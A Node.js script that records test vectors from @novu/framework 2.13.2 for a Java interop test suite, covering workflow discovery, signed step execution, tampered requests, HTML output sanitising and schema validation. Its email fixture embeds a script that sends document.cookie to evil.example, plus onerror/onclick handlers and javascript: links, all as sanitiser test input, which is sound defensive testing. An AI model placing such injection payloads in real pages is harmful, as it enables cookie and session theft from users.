// Records what @novu/framework 2.13.2 itself answers, for InteropTest. Run once, by hand:
//   npm install @novu/framework@2.13.2 zod@3 zod-to-json-schema
//   node record-vectors.cjs ../resources/interop/novu-framework-2.13.2.json ../resources/interop/novu-framework-2.13.2-outputs.json \
//     ../resources/interop/novu-framework-2.13.2-validation.json
// The first file is for the workflow TestWorkflows.welcome() declares in Java, the second for
// TestWorkflows.alerts() (output sanitising, disableOutputSanitization, provider overrides), the third for
// ValidationTest's `signup` workflow, whose schemas below are the ones the Java bridge generates for its records.
const crypto = require('crypto');
const { workflow, Client } = require('@novu/framework');
const { serve } = require('@novu/framework/lambda');

const SECRET = 'interop-secret-key';

const welcome = workflow('welcome', async ({ step }) => {
  const digest = await step.digest('digest-step', async (controls) => ({ amount: controls.amount, unit: controls.unit }), {
    controlSchema: {
      type: 'object',
      properties: {
        amount: { type: 'integer', default: 5 },
        unit: { type: 'string', enum: ['seconds', 'minutes', 'hours', 'days', 'weeks', 'months'], default: 'minutes' },
      },
      required: ['amount', 'unit'],
      additionalProperties: false,
    },
  });
  await step.email('email-step', async (controls) => ({ subject: controls.subject, body: controls.body }), {
    controlSchema: {
      type: 'object',
      properties: {
        body: { type: 'string', default: '<p>{{steps.digest-step.eventCount}} events for {{payload.name}}</p>' },
        skipIfVip: { type: 'boolean', default: false },
        subject: { type: 'string', default: 'Hi {{payload.name}} ({{steps.digest-step.eventCount}})' },
      },
      required: ['body', 'skipIfVip', 'subject'],
      additionalProperties: false,
    },
    skip: (controls) => controls.skipIfVip && digest.eventCount > 1,
  });
}, {
  name: 'Welcome',
  tags: ['onboarding'],
  preferences: { channels: { inApp: { enabled: false } } },
  payloadSchema: {
    type: 'object',
    properties: { name: { type: 'string', default: 'Ada' }, orders: { type: ['integer', 'null'] } },
    required: ['name'],
    additionalProperties: false,
  },
});

const handler = serve({ workflows: [welcome], client: new Client({ secretKey: SECRET, strictAuthentication: true }) });

// A realistic HTML email: a table layout with inline styles, a <style> block, an image, links; plus what
// must not survive (a script, event handlers, a javascript: link).
const EMAIL_HTML = '<!DOCTYPE html><html><head><meta charset="utf-8"><title>Your order</title>'
  + '<style>.btn{background:#0a66c2;color:#fff}</style></head>'
  + '<body style="margin:0;background:#f4f4f4">'
  + '<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff">'
  + '<tr><td align="center" style="padding:24px;font-family:Arial,sans-serif">'
  + '<img src="https://cdn.example.com/logo.png" alt="Acme" width="120" height="40" onerror="steal()" style="display:block">'
  + '<h1 style="font-size:20px">Hello {{payload.name}}</h1>'
  + '<p>Tom &amp; Jerry shipped your order.<script>document.location="https://evil.example/?c="+document.cookie</script></p>'
  + '<a href="https://shop.example.com/orders/1" class="btn" target="_blank" onclick="track()">View order</a> '
  + '<a href="javascript:alert(1)">Unsubscribe</a>'
  + '</td></tr></table></body></html>';

const alertControls = (defaults) => ({
  type: 'object',
  properties: Object.fromEntries(Object.entries(defaults).map(([k, v]) => [k, { type: 'string', default: v }])),
  required: Object.keys(defaults).sort(),
  additionalProperties: false,
});

const alerts = workflow('alerts', async ({ step }) => {
  await step.email('email', async (controls) => ({ subject: controls.subject, body: controls.body }), {
    controlSchema: alertControls({ body: EMAIL_HTML, subject: 'Tom & Jerry <3 {{payload.name}}' }),
    providers: {
      sendgrid: async ({ controls, outputs }) => ({ subject: 'Override: ' + outputs.subject,
        _passthrough: { headers: { 'X-Campaign': 'alerts' } } }),
    },
  });
  await step.inApp('inbox', async (controls) => ({ subject: controls.subject, body: controls.body, avatar: 'https://cdn.example.com/a.png' }), {
    controlSchema: alertControls({ body: '<b onclick="x()">Hi</b> <a href="javascript:void(0)">go</a><script>bad()</script> & more',
      subject: 'A & B <c>' }),
  });
  await step.sms('sms', async (controls) => ({ body: controls.body }), {
    controlSchema: alertControls({ body: '<script>alert(1)</script> Tom & Jerry <b onclick="x()">' }),
  });
  await step.email('raw-email', async (controls) => ({ subject: controls.subject, body: controls.body }), {
    controlSchema: alertControls({ body: '<p onclick="x()">raw</p><script>kept()</script>', subject: 'Raw & <unsanitised>' }),
    disableOutputSanitization: true,
  });
  await step.chat('chat', async (controls) => ({ body: controls.body }), {
    controlSchema: alertControls({ body: '<script>x</script> *Order* shipped' }),
    providers: {
      slack: async ({ controls, outputs }) => ({ text: outputs.body,
        blocks: [{ type: 'section', text: { type: 'mrkdwn', text: outputs.body } }],
        _passthrough: { body: { unfurl_links: false } } }),
    },
  });
}, {
  name: 'Alerts',
  payloadSchema: { type: 'object', properties: { name: { type: 'string', default: 'Ada' } }, required: ['name'], additionalProperties: false },
});

const alertsHandler = serve({ workflows: [alerts], client: new Client({ secretKey: SECRET, strictAuthentication: true }) });

const ALERT_STATE = [
  { stepId: 'email', outputs: {}, state: { status: 'completed' } },
  { stepId: 'inbox', outputs: { seen: false, read: false, lastSeenDate: null, lastReadDate: null }, state: { status: 'completed' } },
  { stepId: 'sms', outputs: {}, state: { status: 'completed' } },
  { stepId: 'raw-email', outputs: {}, state: { status: 'completed' } },
];

const alertCase = (name, stepId, stateSteps) => ({ name, method: 'POST', query: { action: 'execute', workflowId: 'alerts', stepId },
  body: { payload: { name: 'Ada' }, controls: {}, state: ALERT_STATE.slice(0, stateSteps), subscriber: { subscriberId: 's1' }, context: {}, env: {} } });

const alertCases = [
  { name: 'discover with providers', method: 'GET', query: { action: 'discover' }, body: null },
  alertCase('email sanitised, with a sendgrid override', 'email', 0),
  alertCase('in-app sanitised', 'inbox', 1),
  alertCase('sms passes through', 'sms', 2),
  alertCase('email with disableOutputSanitization', 'raw-email', 3),
  alertCase('chat with a slack override', 'chat', 4),
];

function sign(t, body) {
  return 't=' + t + ',v1=' + crypto.createHmac('sha256', SECRET).update(t + '.' + body).digest('hex');
}

const DIGEST_STATE = { stepId: 'digest-step', outputs: { events: [
  { id: 'j1', time: '2026-01-01T00:00:00Z', payload: { n: 1 } },
  { id: 'j2', time: '2026-01-01T00:01:00Z', payload: { n: 2 } }], eventCount: 2 }, state: { status: 'completed' } };

const cases = [
  { name: 'health-check', method: 'GET', query: {}, body: null },
  { name: 'discover', method: 'GET', query: { action: 'discover' }, body: null },
  { name: 'execute digest with defaults', method: 'POST', query: { action: 'execute', workflowId: 'welcome', stepId: 'digest-step' },
    body: { payload: {}, controls: {}, state: [], subscriber: { subscriberId: 's1' }, context: {}, env: {} } },
  { name: 'execute digest with set controls and an unknown key', method: 'POST', query: { action: 'execute', workflowId: 'welcome', stepId: 'digest-step' },
    body: { payload: { name: 'Bo', extra: true }, controls: { amount: 2, unit: 'hours', extra: 'x' }, state: [], subscriber: { subscriberId: 's1' }, context: {}, env: {} } },
  { name: 'execute email reading the digest', method: 'POST', query: { action: 'execute', workflowId: 'welcome', stepId: 'email-step' },
    body: { payload: { name: 'Ada' }, controls: {}, state: [DIGEST_STATE], subscriber: { subscriberId: 's1' }, context: {}, env: { name: 'Development', type: 'dev' } } },
  { name: 'execute email skipped', method: 'POST', query: { action: 'execute', workflowId: 'welcome', stepId: 'email-step' },
    body: { payload: { name: 'Ada' }, controls: { skipIfVip: true }, state: [DIGEST_STATE], subscriber: { subscriberId: 's1' }, context: {}, env: {} } },
  { name: 'execute email without state', method: 'POST', query: { action: 'execute', workflowId: 'welcome', stepId: 'email-step' },
    body: { payload: { name: 'Ada' }, controls: {}, state: [], subscriber: { subscriberId: 's1' }, context: {}, env: {} } },
  { name: 'execute unknown workflow', method: 'POST', query: { action: 'execute', workflowId: 'nope', stepId: 'email-step' },
    body: { payload: {}, controls: {}, state: [] } },
  { name: 'execute with a tampered body', method: 'POST', query: { action: 'execute', workflowId: 'welcome', stepId: 'digest-step' },
    body: { payload: {}, controls: {}, state: [] }, tamper: true },
];

// Generated by the Java bridge for ValidationTest.Signup, ValidationTest.Controls (with defaults) and ValidationTest.Score.
const SIGNUP_PAYLOAD = {"type":"object","properties":{"address":{"type":["object","null"],"properties":{"city":{"type":"string"},"zip":{"type":["string","null"],"pattern":"^[0-9]{5}$"}},"required":["city"],"additionalProperties":false},"age":{"type":"integer","minimum":18,"maximum":130},"email":{"type":"string","format":"email"},"extra":{"type":["object","null"]},"name":{"type":"string","minLength":2,"maxLength":20},"plan":{"anyOf":[{"type":"null"},{"type":"string","enum":["FREE","PRO"]}]},"tags":{"maxItems":2,"type":"array","items":{"type":"string"}}},"required":["age","email","name","tags"],"additionalProperties":false};
const SIGNUP_CONTROLS = {"type":"object","properties":{"repeat":{"type":"integer","minimum":1,"default":1},"subject":{"type":"string","minLength":1,"default":"Hi"}},"required":["repeat","subject"],"additionalProperties":false};
const SCORE = {"type":"object","properties":{"points":{"type":"integer","minimum":0}},"required":["points"],"additionalProperties":false};

const signup = workflow('signup', async ({ step, payload }) => {
  await step.custom('score', async () => ({ points: payload.age - 40 }), { controlSchema: SIGNUP_CONTROLS, outputSchema: SCORE });
  await step.email('email', async (controls) => ({ subject: controls.subject + ' ' + payload.name, body: payload.email }), {
    controlSchema: SIGNUP_CONTROLS,
    providers: {
      sendgrid: async ({ controls, outputs }) => (controls.repeat === 2 ? ['not an object'] : { subject: outputs.subject }),
      mailgun: async ({ controls }) => { if (controls.repeat === 3) throw new Error('mailgun is down'); return {}; },
    },
  });
}, { payloadSchema: SIGNUP_PAYLOAD });

const signupHandler = serve({ workflows: [signup], client: new Client({ secretKey: SECRET, strictAuthentication: true }) });

const VALID = { email: 'ada@example.com', name: 'Ada', age: 50, tags: ['a'] };
const SCORE_STATE = [{ stepId: 'score', outputs: { points: 10 }, state: { status: 'completed' } }];
const signupCase = (name, stepId, payload, controls = {}, state = SCORE_STATE) => ({ name, method: 'POST',
  query: { action: 'execute', workflowId: 'signup', stepId },
  body: { payload, controls, state, subscriber: { subscriberId: 's1' }, context: {}, env: {} } });
const withPayload = (changes) => ({ ...VALID, ...changes });

const signupCases = [
  signupCase('valid, nested, nullable, open map, unknown keys, 50.0 as an integer', 'email',
    withPayload({ age: 50.0, tags: [], plan: 'PRO', address: { city: 'Oslo', zip: '01234', floor: 3 }, extra: { anything: [1, 2] }, unknown: true }),
    { subject: 'Hey' }),
  signupCase('null for nullable members', 'email', withPayload({ plan: null, address: null })),
  signupCase('a string for an integer (no coercion)', 'email', withPayload({ age: '50' })),
  signupCase('a fraction for an integer', 'email', withPayload({ age: 50.5 })),
  signupCase('a missing required member', 'email', { email: 'ada@example.com', name: 'Ada', tags: [] }),
  signupCase('the email format', 'email', withPayload({ email: 'not-an-email' })),
  signupCase('minLength', 'email', withPayload({ name: 'A' })),
  signupCase('maximum', 'email', withPayload({ age: 131 })),
  signupCase('maxItems', 'email', withPayload({ tags: ['a', 'b', 'c'] })),
  signupCase('an item type', 'email', withPayload({ tags: [1] })),
  signupCase('a nested pattern', 'email', withPayload({ address: { city: 'Oslo', zip: '12' } })),
  signupCase('a nested required member', 'email', withPayload({ address: { zip: '12345' } })),
  signupCase('a nullable enum', 'email', withPayload({ plan: 'GOLD' })),
  signupCase('null where not nullable', 'email', withPayload({ email: null })),
  signupCase('controls: minLength', 'email', VALID, { subject: '' }),
  signupCase('controls: a string for an integer', 'email', VALID, { repeat: '2' }),
  signupCase('controls: minimum', 'email', VALID, { repeat: 0 }),
  signupCase('an earlier result out of range', 'email', VALID, {}, [{ stepId: 'score', outputs: { points: -1 }, state: { status: 'completed' } }]),
  signupCase('the output out of range', 'score', withPayload({ age: 30 }), {}, []),
  signupCase('the output in range', 'score', VALID, {}, []),
  signupCase('a provider answering an array', 'email', VALID, { repeat: 2 }),
  signupCase('a provider that throws', 'email', VALID, { repeat: 3 }),
];

async function record(handler, cases, file) {
  const out = { origin: '@novu/framework 2.13.2 (npm), served by its own lambda adapter in Node ' + process.version
    + ', recorded by novu-framework/src/test/interop/record-vectors.cjs', secretKey: SECRET, cases: [] };
  for (const c of cases) {
    const t = Date.now();
    const raw = c.body === null ? '' : JSON.stringify(c.body);
    const headers = { 'content-type': 'application/json', host: 'localhost' };
    if (c.name !== 'health-check') headers['novu-signature'] = sign(t, raw === '' ? '{}' : raw);
    const sent = c.tamper ? raw.replace('"payload":{}', '"payload":{"name":"Eve"}') : raw;
    const result = await handler({ httpMethod: c.method, path: '/api/novu', headers, queryStringParameters: c.query,
      body: c.method === 'GET' ? null : sent, requestContext: {} });
    out.cases.push({ name: c.name, request: { method: c.method, query: c.query, headers, body: sent },
      response: { status: result.statusCode, body: JSON.parse(result.body) } });
  }
  require('fs').writeFileSync(file, JSON.stringify(out, null, 2) + '\n');
}

(async () => {
  await record(handler, cases, process.argv[2]);
  await record(alertsHandler, alertCases, process.argv[3]);
  await record(signupHandler, signupCases, process.argv[4]);
})();
